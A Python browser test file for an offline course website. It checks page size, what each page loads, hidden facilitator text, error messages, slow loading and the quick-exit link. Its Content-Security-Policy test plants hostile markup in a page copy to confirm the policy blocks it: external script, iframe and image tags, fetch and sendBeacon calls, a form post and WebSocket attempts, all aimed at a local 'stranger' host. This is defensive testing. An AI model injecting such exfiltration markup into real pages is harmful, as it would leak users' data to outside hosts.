"""A page on every surface: what it loads, what it keeps out, and what it does when something fails."""

from __future__ import annotations

import html
import http.server
import json
import re
import statistics
import threading
import unicodedata
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from conftest import ROOT, SECONDS, Jupyter, Watched
from hands import ABOUT, BY_EVERY_DOOR, EXERCISE, FOLLOW, HOME, PAGES, SHARE, TOOLS, Course, Learner, spaced
from playwright.sync_api import Browser, BrowserContext, Route, expect
from pypdf import PdfReader

from alongside.course import about
from alongside.course import lesson as content
from alongside.page import theme
from alongside.page.join import asleep_script

pytestmark = pytest.mark.browser

CARD, ARRIVE = "share-power-one-card", "share-power-arrive"
WORK = "03-values-how-we-work"  # it has two pictures, far from each other
STORY = "scenario-the-dragon-on-the-wall"
# Bytes of a published lesson with everything that it loads. They shrink; they grew twice: by 1.6 KB, for words that were
# lost and for stories that a screen reader did not speak, and by 1.0 KB, for what Orca was heard to leave out, to say in
# any order, and to take for an exit. Then by 0.5 KB: for the link to the search, so that forgetting takes the offline copy
# and the big screen's place away, too, and for what readers of the lessons asked for. Then 0.7 KB for an exit while the
# page still moves, and for words that a slow browser would have lost from a folder. The last 0.3 KB show a passphrase to who
# writes it: a slip that nobody sees locks a file for good.
LARGEST, MEDIAN = 106_000, 89_400
#: The page of the search brings every text of the course along, since a page can't fetch anything from a stick.
LARGEST_SEARCH = 520_000
#: The planner alone carries how every lesson is led.
PLANNER, LARGEST_PLANNER = "23-facilitate", 400_000


def notebook_of(name: str, root: Path = ROOT) -> Path:
    return root / (f"{name}.ipynb" if name.startswith("exercises/") else f"notebooks/{name}.ipynb")


# --- what a page asks for


@BY_EVERY_DOOR
def test_a_page_asks_for_itself_and_nothing_else(
    learner: Learner, tab: Watched, one_of_each_page: tuple[str, ...], nightly: bool
) -> None:
    names = one_of_each_page
    if learner.course.door != "http" and not nightly:
        names = (SHARE, EXERCISE, ABOUT[0])  # the same pages, byte for byte, come by the other doors
    if learner.course.door == "voila":
        names = [name for name in names if name not in TOOLS]
    learner.page.clock.install()
    for name in names:
        learner.open(name).unfold()
        learner.my_words()
        learner.page.mouse.wheel(0, 20000)
        # Whatever a page would ask for later, it has asked for when its clock was put on.
        learner.drawn().page.clock.run_for(60 * SECONDS)
        learner.drawn()
    learner.page.wait_for_load_state("networkidle")
    asked = [url for url in tab.requests if not url.startswith("data:")]
    assert asked == [learner.course.address(name) for name in names]
    assert tab.errors == []


@pytest.mark.parametrize("name", [*PAGES, *ABOUT])
def test_a_published_page_is_small_with_everything_that_it_loads(site: Path, name: str) -> None:
    """A page is one file and asks for nothing else, as the test before this one sees in a browser."""
    most = {PLANNER: LARGEST_PLANNER, about.SEARCH: LARGEST_SEARCH}.get(name, LARGEST)
    assert (site / f"{name}.html").stat().st_size <= most


#: A class of ours, in a stylesheet and on a page.
OURS = re.compile(r"\bal-[a-z][a-z0-9-]*")


def test_a_page_brings_the_rules_of_what_can_stand_on_it_alone(
    site: Path, one_of_each_page: tuple[str, ...]
) -> None:
    every = set(OURS.findall(theme.page_css()))
    left_out = 0
    for name in one_of_each_page:
        before, _, rest = (site / f"{name}.html").read_text(encoding="utf-8").partition("<style>")
        style, _, after = rest.partition("</style>")
        assert every & set(OURS.findall(before + after)) <= set(OURS.findall(style)), name
        left_out += len(every - set(OURS.findall(style)))
    assert left_out > 20


def test_half_of_the_published_lessons_are_smaller_still(site: Path) -> None:
    names = [one.name for one in content.lessons() if one.name != PLANNER]
    sizes = [(site / f"{name}.html").stat().st_size for name in names]
    assert len(sizes) > 20 and statistics.median(sizes) <= MEDIAN


class _Stranger(http.server.BaseHTTPRequestHandler):
    """Another host. It would answer whoever asks, and it writes down what was asked."""

    asked: list[str] = []  # noqa: RUF012  # one list for all requests is meant

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def stranger() -> Iterator[str]:
    _Stranger.asked.clear()
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Stranger) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://localhost:{server.server_port}"  # the pages come from 127.0.0.1: this is another origin
        server.shutdown()


def plant(page: str, stranger: str) -> str:
    """A page into which somebody put what would send words away."""
    bad = (
        f'<img src="{stranger}/picture"><link rel="stylesheet" href="{stranger}/style">'
        f'<script src="{stranger}/script"></script><iframe src="{stranger}/frame"></iframe>'
        f"<script>document.title = 'planted'; fetch('{stranger}/fetch'); navigator.sendBeacon('{stranger}/beacon')</script>"
        f"<form id='planted' method='post' action='{stranger}/form'></form>"
        f"<p onclick='document.title = \"planted\"'>A planted line</p>"
    )
    before, end, after = page.rpartition("</main>")  # the page's script names that tag too
    assert end
    return before + bad + end + after


@pytest.mark.parametrize("door", ["http", "file"])
def test_the_policy_of_a_published_page_lets_nothing_planted_through(
    context: BrowserContext,
    site: Path,
    stranger: str,
    serve: Callable[[Path], str],
    tmp_path: Path,
    door: str,
) -> None:
    page = context.new_page()
    text = plant((site / f"{SHARE}.html").read_text(encoding="utf-8"), stranger)
    open_policy = re.sub(r"<meta[^>]*Content-Security-Policy[^>]*>", "", text)
    assert open_policy != text
    (tmp_path / "held.html").write_text(text, encoding="utf-8")
    (tmp_path / "open.html").write_text(open_policy, encoding="utf-8")
    home = serve(tmp_path) if door == "http" else tmp_path.as_uri() + "/"

    # Without the policy the planted lines do their work: this test can see.
    page.goto(f"{home}open.html")
    expect(page).to_have_title("planted")
    page.wait_for_load_state("networkidle")
    assert {"/picture", "/script", "/style", "/fetch", "/frame"} <= set(_Stranger.asked)

    _Stranger.asked.clear()
    page.goto(f"{home}held.html")
    learner = Learner(page, Course(door, lambda name: f"{home}held.html", "")).ready()
    learner.write(CARD, "quiet otter")
    page.get_by_text("A planted line").click()
    expect(learner.box(CARD)).to_have_value("quiet otter")
    refused, title = page.evaluate(
        """async ([stranger, word]) => {
            const tries = {
                fetch: () => fetch(`${stranger}/fetch?${word}`),
                socket: () => new Promise((done, failed) => {
                    const line = new WebSocket(stranger.replace("http", "ws") + `/socket?${word}`);
                    line.onopen = done; line.onerror = failed;
                }),
                picture: () => new Promise((done, failed) => {
                    const picture = new Image();
                    picture.onload = done; picture.onerror = failed; picture.src = `${stranger}/picture?${word}`;
                }),
                worker: () => new Promise((done, failed) => {
                    const worker = new Worker(URL.createObjectURL(new Blob([""])));
                    worker.onerror = failed; setTimeout(done, 1000);
                }),
                script: async () => document.head.append(Object.assign(document.createElement("script"), {
                    textContent: "document.title = 'planted'"})),
                beacon: async () => navigator.sendBeacon(`${stranger}/beacon?${word}`),
                form: () => new Promise((done, failed) => {
                    document.addEventListener("securitypolicyviolation", (event) => {
                        if (event.effectiveDirective === "form-action") failed();
                    });
                    document.getElementById("planted").submit();
                    setTimeout(done, 3000);
                }),
            };
            const refused = [];
            for (const [name, attempt] of Object.entries(tries)) await attempt().catch(() => refused.push(name));
            return [refused, document.title];
        }""",
        [stranger, "quiet-otter"],
    )
    assert {"fetch", "socket", "picture", "worker", "form"} <= set(refused)
    assert title == "Lesson 5"
    assert _Stranger.asked == []


# --- what only facilitators read


@BY_EVERY_DOOR
@pytest.mark.parametrize("name", [SHARE, EXERCISE])
def test_what_facilitators_read_is_not_on_a_learners_page(learner: Learner, name: str) -> None:
    text = spaced(learner.open(name).page.locator("body").text_content() or "")
    assert_only_for_learners(text, name)


@pytest.mark.parametrize("course", ["voila"], indirect=True)
@pytest.mark.parametrize("asked", ["template=lab", "template=base", "theme=dark&template=classic"])
def test_no_other_template_can_be_asked_for(learner: Learner, tab: Watched, asked: str) -> None:
    learner.page.goto(f"{learner.course.address(SHARE)}&{asked}")
    learner.ready()
    assert_only_for_learners(spaced(learner.page.locator("body").text_content() or ""), SHARE)
    expect(learner.page.get_by_role("heading", level=1)).to_have_text(content.lesson(SHARE).title)


def assert_only_for_learners(text: str, name: str) -> None:
    cells = [cell for cell in nbformat.read(notebook_of(name), 4).cells if cell.cell_type == "markdown"]
    for_facilitators = [cell.source for cell in cells if "facilitator" in cell.metadata.get("tags", [])]
    assert for_facilitators
    assert any(beginning(cell.source) in text for cell in cells)
    for source in for_facilitators:
        assert beginning(source) not in text
    assert "Watch for:" not in text


def beginning(source: str) -> str:
    """The first words of a cell, as a page shows them."""
    return spaced(re.sub(r"[*_#>]", "", source))[:40]


def test_voila_sends_the_published_page_with_links_to_its_own(
    site: Path, jupyter: Jupyter, sent_by_voila: Callable[[str], str], one_of_each_page: tuple[str, ...]
) -> None:
    """So whatever is tried on the published pages holds in Voilà too. What a lesson's lines say, there and here, is
    compared for every lesson in ``test_activities_in_python.py``."""
    names = [name for name in one_of_each_page if name not in TOOLS]
    assert len(names) > 6
    for name in names:
        sent = sent_by_voila(jupyter.course().address(name).partition("?")[0])
        assert "Someone to talk to" in sent
        assert same(sent) == same((site / f"{name}.html").read_text(encoding="utf-8")), name


def same(page: str) -> str:
    """A page without the addresses of other pages, which is what differs between the doors."""
    body = re.sub(r'href="[^"]*" target="_top"', "", page)  # the way out
    return re.sub(
        r'href="(?:\.\./)*(?:notebooks/|exercises/|about/)?([\w-]+)\.(?:ipynb|html)', r'href="\1', body
    )


# --- while a page gets ready, and when something fails


@pytest.fixture
def lesson(jupyter: Jupyter) -> Iterator[Callable[[str], str]]:
    """Puts a changed copy of "Share power" into the course, for one test: the source of one more code cell."""
    made: list[Path] = []

    def add(source: str) -> str:
        name = f"{90 + len(made)}-changed"
        notebook = nbformat.read(notebook_of(SHARE, jupyter.folder), 4)
        notebook.metadata["alongside"]["number"] = 90 + len(made)
        at = next(
            i for i, cell in enumerate(notebook.cells) if cell.cell_type == "code" and "rate(" in cell.source
        )
        notebook.cells.insert(at, nbformat.v4.new_code_cell(source, id="changed"))
        made.append(jupyter.folder / "notebooks" / f"{name}.ipynb")
        nbformat.write(notebook, made[-1])
        return name

    yield add
    for path in made:
        path.unlink()


@pytest.fixture
def voila(tab: Watched, jupyter: Jupyter) -> Learner:
    return Learner(tab.page, jupyter.course())


@pytest.mark.parametrize(
    "source",
    ["raise RuntimeError('secret detail')", "not python", "scenario('the-last-bus')"],
)
def test_a_cell_that_fails_is_said_kindly_and_the_rest_of_the_page_works(
    voila: Learner, lesson: Callable[[str], str], source: str
) -> None:
    page = voila.open(lesson(source)).page
    sorry = page.get_by_role("note")
    expect(sorry).to_have_count(1)
    expect(sorry).to_contain_text("One part of this page did not work.")
    expect(sorry).to_contain_text("Nothing that you wrote is lost.")
    everything = page.content()
    for word in (
        "Traceback",
        "ZeroDivisionError",
        "RuntimeError",
        "SyntaxError",
        "ModuleNotFound",
        "secret detail",
    ):
        assert word not in everything
    assert "AlongsideError" not in everything
    # What comes after it is there and works.
    voila.question(ARRIVE).get_by_role("radio", name="4", exact=True).check()
    voila.write(CARD, "quiet otter").reload()
    expect(voila.box(CARD)).to_have_value("quiet otter")
    expect(page.get_by_role("contentinfo")).to_contain_text("Someone to talk to")


def test_while_a_page_gets_ready_it_says_so_and_can_be_left(
    voila: Learner, lesson: Callable[[str], str], jupyter: Jupyter
) -> None:
    page = voila.page
    voila.open(SHARE).write(CARD, "quiet otter")
    gate = jupyter.folder / "go-on"
    name = lesson(f"import os, time\nwhile not os.path.exists({str(gate)!r}): time.sleep(0.05)")
    try:
        page.goto(voila.course.address(name), wait_until="commit")
        expect(page.get_by_role("status").filter(has_text="Getting the page ready…")).to_be_visible()
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        expect(page.get_by_role("contentinfo")).to_have_count(0)
        voila.quick_exit()
        expect(page).to_have_url(voila.course.neutral)
        assert voila.stored() == {}
    finally:
        gate.touch()


def test_a_page_goes_on_working_when_its_kernel_is_gone(
    voila: Learner, lesson: Callable[[str], str], jupyter: Jupyter
) -> None:
    page = voila.open(lesson("1 + 1")).page
    end_kernels(jupyter)
    voila.write(CARD, "quiet otter")
    voila.skip(ARRIVE)
    story = voila.story(STORY)
    story.shown.get_by_role("button").first.click()
    expect(story.shown).to_contain_text("You chose:")
    with page.expect_download() as saved:
        voila.my_words().get_by_role("button", name="Save as a file", exact=True).click()
    assert "quiet otter" in Path(saved.value.path()).read_text(encoding="utf-8")
    page.keyboard.press("Escape")
    page.get_by_role("link", name=f"Go to: {content.lesson(FOLLOW).title}").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(content.lesson(FOLLOW).title)
    expect(voila.ready().my_words()).to_contain_text("quiet otter")


def end_kernels(jupyter: Jupyter) -> None:
    def ask(path: str, method: str = "GET") -> list[dict[str, str]]:
        request = urllib.request.Request(
            f"{jupyter.origin}/api/{path}", method=method, headers={"Authorization": f"token {jupyter.token}"}
        )
        with urllib.request.urlopen(request, timeout=30) as answer:
            return json.loads(answer.read() or "[]")

    running = ask("kernels")
    assert running
    for kernel in running:
        ask(f"kernels/{kernel['id']}", "DELETE")
    assert ask("kernels") == []


# --- links


@BY_EVERY_DOOR
def test_every_link_of_the_course_leads_to_a_page(
    learner: Learner, nightly: bool, site: Path, request: pytest.FixtureRequest
) -> None:
    """By day one of each kind is followed in the browser, and the others are asked for and read. In Voilà, where each
    takes a kernel, the others are looked for as files: the page is the published one, as a test above says."""
    page = learner.page
    found: dict[str, str] = {}
    for name in (HOME, SHARE, EXERCISE, "about/group-exercises"):
        page = learner.open(name).unfold().page
        links = page.get_by_role("navigation").or_(page.locator("main li")).get_by_role("link")
        found |= dict(
            links.evaluate_all("(all) => all.map((one) => [one.href.split('#')[0], one.textContent])")
        )
    home = next(
        address for address in found if address.startswith(learner.course.address(HOME).partition("?")[0])
    )
    found[home] = about.home().title  # the way there is called "All lessons"
    for address, words in {**found}.items():
        found[address] = {"Learn on your own": "Start here", "Lead a session": "Group exercises"}.get(
            words, words
        )
    assert len(found) == len(PAGES) + len(ABOUT)
    followed = {learner.course.address(name).partition("?")[0] for name in (FOLLOW, EXERCISE, ABOUT[-1])}
    for address, words in found.items():
        title = re.sub(r"^\d+\. |^(Go to|For a group): ", "", words)
        if nightly or address in followed:
            page.goto(address)
            expect(learner.ready().page.get_by_role("heading", level=1)).to_have_text(title)
            followed.discard(address)
            continue
        if learner.course.door == "voila":
            notebook = address.partition("?")[0].partition("/voila/render/")[2]
            if notebook.startswith(
                ("about/", HOME, about.SEARCH)
            ):  # these are made of texts, without a kernel
                sent = request.getfixturevalue("sent_by_voila")(address)
            else:
                assert (request.getfixturevalue("jupyter").folder / notebook).is_file(), address
                name = notebook.removeprefix("notebooks/").removesuffix(".ipynb")
                sent = (site / f"{name}.html").read_text(encoding="utf-8")
        else:
            with urllib.request.urlopen(address, timeout=60) as answer:
                sent = answer.read().decode()
        lesson = sent.rpartition("<main")[2]  # the page's script names an h1 too
        heading = re.search(r"<h1[^>]*>(.*?)</h1>", lesson, re.S)
        assert heading and html.unescape(re.sub("<[^>]*>", "", heading[1])).strip() == title, address
    assert not followed


@dataclass
class Slow:
    """A web server that sends a page in two parts, the second when it is told to."""

    page: bytes
    cut: int = 0
    rest: threading.Event = field(default_factory=threading.Event)


@pytest.fixture
def slow(site: Path) -> Iterator[tuple[str, Slow]]:
    """The address of a lesson whose first part comes alone, and what sends the second."""
    told = Slow((site / f"{SHARE}.html").read_bytes())

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(told.page[: told.cut])
            self.wfile.flush()
            told.rest.wait(30)
            self.wfile.write(told.page[told.cut :])

        def log_message(self, format: str, *args: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", told
        server.shutdown()


def test_wherever_a_slow_line_cuts_a_page_everything_stands_once_and_nothing_moves(
    tab: Watched, slow: tuple[str, Slow]
) -> None:
    page, (address, told) = tab.page, slow
    text = told.page.decode()
    section = re.search(r"<section class=\"alongside-activity[^>]*>(\s*)<p[^>]*>([^<]*)</p>", text)
    assert section and section[2]
    link = re.search(r'<a class="al-exit"[^>]*>Quick exit</a>', text)
    bar = text.index("data-alongside-bar")
    cuts = {
        "in the bar": link.start() + len(link[0]) - 8 if link else text.index(">", bar) + 1,
        "behind the first section's tag": section.start(1),
        "in its question": section.start(2) + 12,
        "behind its question": section.end(2),
        "behind its paragraph": section.end(),
        "further below": text.index("</h2>", section.end()),
    }
    for where, cut in cuts.items():
        told.rest.clear()
        told.cut = len(text[:cut].encode())
        page.goto(address, wait_until="commit")
        page.locator(".al-bar").wait_for(state="attached")
        # Several turns, in which whatever was waiting for a part of the page is done.
        page.evaluate("new Promise((done) => setTimeout(done, 200))")
        before = page.evaluate(TOPS)
        told.rest.set()
        expect(page.locator("html.al-ready")).to_have_count(1)
        if where == "further below":
            assert "Getting the page ready" in before["sign"] and len(before["tops"]) > 2
            after = page.evaluate(TOPS)
            assert after["tops"][: len(before["tops"])] == before["tops"]
        question = page.locator("section.alongside-activity").first
        assert (question.inner_text().count(spaced(html.unescape(section[2]))), where) == (1, where)
        assert (page.locator(".al-bar").inner_text().split("\n"), where) == (
            ["Quick exit", "My words"],
            where,
        )
    assert tab.errors == []


#: Where the headings and paragraphs of a page lie, and what it says while it gets ready.
TOPS = """() => ({
    tops: [...document.querySelectorAll("main > .cell > *, main > details")].map((one) => one.getBoundingClientRect().top),
    sign: [...document.querySelectorAll("[role=status]")].filter((one) => one.checkVisibility())
        .map((one) => one.textContent).join(" "),
})"""


#: How far what is seen is pushed around, but for the half second after a person does something.
SHIFTS = """globalThis.shifts = 0;
new PerformanceObserver((list) => list.getEntries().forEach((one) => { if (!one.hadRecentInput) shifts += one.value; }))
    .observe({type: "layout-shift", buffered: true});"""


@pytest.mark.parametrize(("width", "height"), [(390, 844), (1280, 800)])
def test_nothing_moves_when_activities_come_to_a_slow_phone(
    learner: Learner, width: int, height: int
) -> None:
    page = learner.page
    page.set_viewport_size({"width": width, "height": height})
    page.add_init_script(SHIFTS)
    page.context.new_cdp_session(page).send("Emulation.setCPUThrottlingRate", {"rate": 6})
    learner.open(SHARE).drawn()
    for _ in range(4):
        page.evaluate("scrollBy(0, innerHeight * 0.8)")
        learner.drawn()
    assert page.evaluate("shifts") < 0.01
    page.evaluate("scrollTo(0, 0)")
    learner.drawn()
    page.evaluate(
        "document.querySelector('main').prepend(Object.assign(document.createElement('h2'), {textContent: '!'}))"
    )
    learner.drawn()
    assert (
        page.evaluate("new Promise((done) => setTimeout(() => done(shifts), 500))") > 0.01
    )  # this test can see


def test_a_tool_is_said_to_sleep_only_where_its_program_or_server_is_gone(tab: Watched) -> None:
    """A page with a tool, as far as this needs it: its script, the sign, and where its program is."""
    page, home = tab.page, "http://127.0.0.1:1/user/otter/"
    told = json.dumps({"baseUrl": "/user/otter/", "kernelId": "k"})
    page.route(
        f"{home}page",
        lambda route: route.fulfill(
            content_type="text/html",
            headers={"Set-Cookie": "_xsrf=2|a1|b2; Path=/user/otter/"},
            body=f"""<script>{asleep_script()}</script><script id="jupyter-config-data" type="application/json">{told}
            </script><p class="al-asleep" role="alert" data-words="asleep"></p>""",
        ),
    )
    tokens: list[str | None] = []
    now = [200]

    def answer(route: Route) -> None:
        tokens.append(route.request.headers.get("x-xsrftoken"))
        route.fulfill(status=now[0]) if now[0] else route.abort()

    page.route(f"{home}api/kernels/k", answer)
    page.clock.install()
    page.goto(f"{home}page")
    for now[0], sleeps in (
        (200, ""),
        (404, "asleep"),
        (200, ""),
        (403, ""),
        (503, "asleep"),
        (401, ""),
        (0, "asleep"),
        (424, "asleep"),
        (200, ""),
    ):
        page.clock.run_for(15 * SECONDS)
        expect(page.get_by_role("alert")).to_have_text(sleeps)
    assert set(tokens) == {"2|a1|b2"}


def test_without_javascript_a_page_can_still_be_read(context: BrowserContext, course: Course) -> None:
    assert context.browser
    plain = context.browser.new_context(java_script_enabled=False)
    try:
        page = plain.new_page()
        page.goto(course.address(SHARE))
        main = page.get_by_role("main")
        expect(main).to_contain_text("The boxes on this page need JavaScript", use_inner_text=True)
        expect(main).to_contain_text("How often do people here have a say", use_inner_text=True)
        expect(page.get_by_text("Getting the page ready…")).to_be_hidden()
        expect(page.get_by_role("link", name=f"Go to: {content.lesson(FOLLOW).title}")).to_be_visible()
    finally:
        plain.close()


def changed_page(site: Path, folder: Path, name: str, before: str, after: str) -> str:
    """The address of a copy of a published page with a fault in it."""
    text = (site / f"{name}.html").read_text(encoding="utf-8")
    assert before in text
    (folder / f"{name}.html").write_text(text.replace(before, after, 1), encoding="utf-8")
    return (folder / f"{name}.html").as_uri()


NO_BOXES = "The boxes on this page need JavaScript, and it does not run here."


def test_one_question_that_fails_takes_no_other_along(site: Path, chromium: Browser, tmp_path: Path) -> None:
    """Something on the way changed the page, or the browser lacks what one kind of question needs."""
    broken = f'data-key="{CARD}" data-x'
    address = changed_page(site, tmp_path, SHARE, f'data-key="{CARD}"', broken)
    text = (tmp_path / f"{SHARE}.html").read_text(encoding="utf-8")
    before, _, after = text.partition(broken)
    (tmp_path / f"{SHARE}.html").write_text(f'{before}{broken} data-props="{{" {after}', encoding="utf-8")
    page = chromium.new_page()
    try:
        errors: list[object] = []
        page.on("pageerror", lambda error: errors.append(error))
        page.goto(address)
        expect(page.locator("html.al-ready")).to_have_count(1)
        expect(page.get_by_text(NO_BOXES).filter(visible=True)).to_have_count(1)
        expect(page.locator(f'[data-key="{CARD}"]')).to_contain_text(NO_BOXES)
        # The promise is the last but one question of the page, and is there.
        expect(page.get_by_role("textbox", name="What", exact=True)).to_be_visible()
        assert len(errors) == 1
    finally:
        page.close()


def test_a_script_that_does_not_run_is_told_and_the_page_can_be_left(
    site: Path, chromium: Browser, tmp_path: Path
) -> None:
    page = chromium.new_page()
    try:
        page.goto(changed_page(site, tmp_path, SHARE, "<script>", "<script>#"))
        expect(page.get_by_text(NO_BOXES)).to_be_visible()
        expect(page.get_by_role("link", name="Quick exit")).to_be_visible()
        page.goto((site / f"{SHARE}.html").as_uri())
        expect(page.locator("html.al-ready")).to_have_count(1)
        expect(page.get_by_text(NO_BOXES)).to_be_hidden()
    finally:
        page.close()


def test_a_page_that_was_saved_as_a_file_works_and_can_be_left(learner: Learner, tmp_path: Path) -> None:
    """A browser saves a page as it stands: with boxes and buttons that no script has made, and without their words."""
    page = learner.open(SHARE).page
    learner.write(CARD, "quiet otter")
    saved = tmp_path / "saved.html"
    text = page.evaluate("document.documentElement.outerHTML")
    saved.write_text(f"<!doctype html>{text}", encoding="utf-8")
    # A browser writes the addresses out.
    (tmp_path / Path(learner.course.neutral).name).write_text("<title>New page</title>", encoding="utf-8")
    later = page.context.new_page()
    later.goto(saved.as_uri())
    mine = learner.beside(later)
    expect(mine.box(CARD)).to_have_count(1)
    mine.write(CARD, "quiet heron")
    expect(mine.bar.get_by_role("button")).to_have_text(["Quick exit", "My words"])
    expect(mine.my_words()).to_contain_text("quiet heron")
    later.keyboard.press("Escape")
    mine.quick_exit()
    expect(later).to_have_title("New page")


def test_pictures_wait_until_they_come_near_and_are_all_on_paper(learner: Learner, tmp_path: Path) -> None:
    page = learner.open(WORK).page
    pictures = page.locator("main img")
    drawn = "(all) => all.map((one) => one.complete && one.naturalWidth > 0)"
    texts = pictures.evaluate_all("(all) => all.map((one) => decodeURIComponent(one.src))")
    titles = [re.findall(r"<text [^>]*>([^<]+)", text)[0] for text in texts]
    assert len(titles) >= 2
    assert not pictures.evaluate_all(drawn)[-1]

    page.pdf(path=tmp_path / "page.pdf")
    paper = unicodedata.normalize(
        "NFKC", " ".join(sheet.extract_text() for sheet in PdfReader(tmp_path / "page.pdf").pages)
    )
    assert [title for title in titles if title not in paper] == []
    # What lies folded on a screen is read on paper, too.
    starters = learner.props("work-small-step")["starters"]
    assert isinstance(starters, list)
    assert [one for one in starters if spaced(one)[:24] not in spaced(paper)] == []
    # Afterward it is folded on the screen as before.
    assert page.locator("main .al-ours details[open]").count() == 0

    learner.open(WORK)
    for picture in pictures.all():
        picture.scroll_into_view_if_needed()
        expect(picture).to_have_js_property("complete", True)
    assert pictures.evaluate_all(drawn) == [True] * len(titles)
